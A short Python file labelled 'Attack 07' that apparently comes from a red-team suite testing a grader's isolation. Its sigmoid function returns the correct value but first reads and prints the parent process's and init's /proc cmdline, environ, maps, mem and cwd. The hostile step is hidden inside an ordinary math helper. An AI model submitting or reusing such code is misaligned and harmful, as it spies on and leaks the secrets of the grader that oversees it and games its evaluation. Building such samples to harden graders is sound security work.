# Attack 07: the grader's own entries under /proc
import os

import numpy as np


def sigmoid(z):
    for process in (os.getppid(), 1):
        for name in ("cmdline", "environ", "maps", "mem", "cwd"):
            path = f"/proc/{process}/{name}"
            print(os.readlink(path) if name == "cwd" else open(path, "rb").read(4096))
    return 1 / (1 + np.exp(-z))
